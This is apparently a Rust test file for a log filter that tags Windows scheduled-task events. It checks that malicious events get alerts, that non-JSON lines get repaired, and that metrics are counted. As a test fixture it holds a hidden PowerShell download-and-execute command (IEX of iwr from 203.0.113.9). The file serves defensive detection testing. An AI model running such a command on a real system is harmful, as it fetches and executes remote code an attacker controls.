//! The built filter instead of the small guest.
use crate::downstream::Downstream;
use crate::hop::Hop;
use crate::sender::{get, post};
use serde_json::{Value, json};
use std::io::Write;
use std::path::{Path, PathBuf};

/// The filter that `make test` builds; without it a test says SKIPPED.
fn module(test: &str) -> Option<PathBuf> {
    let built = Path::new(env!("CARGO_MANIFEST_DIR")).join("../dist/schtag.wasm");
    let path = std::env::var_os("SCHTAG_WASM").map_or(built, PathBuf::from);
    if path.is_file() {
        return Some(path);
    }
    // Not eprintln!, which the test runner swallows when a test passes.
    let line = format!("SKIPPED: no schtag.wasm for {test}; `make test` builds it\n");
    std::io::stderr().write_all(line.as_bytes()).unwrap();
    None
}

/// An event as Vector's windows_event_log writes it (`src/sources/windows_event_log/parser.rs`).
fn vector_event(record: u64, command: &str, arguments: &str) -> Value {
    let content = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" \
         xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Actions Context=\"Author\"><Exec><Command>\
         {command}</Command><Arguments>{arguments}</Arguments></Exec></Actions></Task>"
    );
    json!({
        "timestamp": "2026-03-02T08:14:07Z", "message": "", "host": "ws-0217.northwind.example",
        "source_type": "windows_event_log", "event_id": 4698, "record_id": record, "level": "Information",
        "level_value": 0, "channel": "Security", "provider_name": "Microsoft-Windows-Security-Auditing",
        "computer": "ws-0217.northwind.example", "task": 12804, "keywords": "0x8020000000000000",
        "event_data": {"SubjectUserName": "a.lindqvist", "SubjectDomainName": "NORTHWIND", "TaskName": "\\Updater",
                       "TaskContent": content},
    })
}

#[test]
fn events_of_vector_are_tagged_and_what_is_no_json_is_mended() {
    let Some(module) = module("events_of_vector_are_tagged_and_what_is_no_json_is_mended") else { return };
    let downstream = Downstream::start([]);
    let hop = Hop::start(&format!("--module {} --forward {}", module.display(), downstream.url()));
    let malicious = vector_event(1, "powershell.exe", "-w hidden -c IEX (iwr http://203.0.113.9/a)");
    let other = json!({"event_id": 4624, "channel": "Security"});
    let body = format!("{malicious}\nno JSON at all\n{other}\n{{\"cut\": \n");
    assert_eq!(post(hop.address, "application/x-ndjson", body.as_bytes()).unwrap().status, 200);
    let stored = downstream.stored();
    assert_eq!(stored.len(), 4);
    assert_eq!(stored[0]["schtag"]["verdict"], "alert");
    assert_eq!(stored[0]["schtag"]["actor"]["user"], "NORTHWIND\\a.lindqvist");
    let mut untagged = stored[0].clone();
    untagged.as_object_mut().unwrap().remove("schtag");
    assert_eq!(untagged, malicious);
    assert_eq!(stored[1]["log"], "no JSON at all");
    assert_eq!(stored[1]["schtag"]["verdict"], "repaired");
    assert_eq!(stored[2], other);
    assert_eq!(stored[3]["schtag"]["verdict"], "repaired");
    let metrics = get(hop.address, "/metrics").text();
    for line in [
        "schtag_detections_total{verdict=\"alert\",severity=\"high\"} 1",
        "schtag_detections_total{verdict=\"repaired\",severity=\"informational\"} 2",
        "schtag_component_errors_total{error_type=\"invalid_record\",stage=\"receiving\"} 2",
        // Scheduled task runs PowerShell
        "schtag_rule_matches_total{rule=\"7d240724-4061-40fa-a336-6f2d672aa45c\"} 1",
    ] {
        assert!(metrics.lines().any(|other| other == line), "{line}\n{metrics}");
    }
}

#[test]
fn an_alert_among_very_many_lines_that_are_no_records_keeps_its_tag() {
    let Some(module) = module("an_alert_among_very_many_lines_that_are_no_records_keeps_its_tag") else {
        return;
    };
    let hop = Hop::start(&format!("--max-body 500000 --module {}", module.display()));
    let malicious = vector_event(1, "powershell.exe", "-w hidden -c IEX (iwr http://203.0.113.9/a)");
    let body = "1\n".repeat(230_000) + &malicious.to_string();
    let answer = post(hop.address, "application/x-ndjson", body.as_bytes()).unwrap();
    assert_eq!((answer.status, answer.header("schtag-untagged")), (200, Some("repaired")));
    let text = answer.text();
    let mut lines = text.lines();
    let alert: Value = serde_json::from_str(lines.next_back().unwrap()).unwrap();
    assert_eq!(alert["schtag"]["verdict"], "alert");
    let repaired = lines.clone().take_while(|line| line.contains("\"repaired\"")).count();
    assert_eq!(repaired, 10_000);
    assert_eq!(lines.skip(repaired).filter(|line| *line == "{\"log\":\"1\"}").count(), 220_000);
    let metrics = get(hop.address, "/metrics").text();
    let line = "schtag_untagged_events_total{limit=\"repaired\"} 220000";
    assert!(metrics.lines().any(|other| other == line), "{metrics}");
}
